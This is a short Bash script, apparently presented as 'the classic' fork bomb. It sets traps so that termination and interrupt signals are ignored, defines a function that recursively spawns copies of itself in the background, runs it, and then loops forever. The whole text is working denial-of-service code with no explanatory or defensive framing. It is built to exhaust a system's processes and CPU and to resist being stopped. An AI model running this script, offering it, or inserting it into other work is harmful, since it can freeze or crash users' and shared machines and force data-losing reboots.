# The classic, with the signals that would stop it ignored.
trap '' TERM INT HUP XCPU
bomb() { bomb | bomb & }
bomb
while :; do :; done
